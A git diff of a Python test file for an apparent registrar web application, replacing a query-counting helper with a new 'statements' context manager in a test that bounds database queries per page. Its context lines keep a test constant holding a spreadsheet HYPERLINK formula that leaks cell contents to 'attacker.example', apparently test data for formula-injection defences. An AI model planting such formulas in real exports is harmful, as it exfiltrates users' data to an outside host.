@@ -7,7 +7,8 @@ import html
 import io
 
 from careercredit.models import PlanState, Role
-from tests.registrar.conftest import Desk, QueryCounter, text_of
+from tests.registrar.conftest import Desk, text_of
+from tests.statements import statements
 
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'
 
@@ -111,13 +112,13 @@ def test_every_plan_of_the_term_costs_the_same_few_queries(desk: Desk) -> None:
     counted = {}
     for path in ("", "?state=all"):
         desk.registrar.get(f"/registrar/terms/{desk.term_id}{path}")
-        with QueryCounter(desk.app) as few:
+        with statements(desk.app) as few:
             desk.registrar.get(f"/registrar/terms/{desk.term_id}{path}")
         counted[path] = len(few)
     add(13)
     for path in ("", "?state=all"):
-        with QueryCounter(desk.app) as many:
+        with statements(desk.app) as many:
             page = desk.registrar.get(f"/registrar/terms/{desk.term_id}{path}")
         assert "Page 1 of 2 (30 in all)" in page.get_data(as_text=True) or path == ""
         assert len(many) == counted[path]
-        assert len(many) <= 12, "\n".join(s[:90] for s in many.statements)
+        assert len(many) <= 12, "\n".join(s[:90] for s in many)
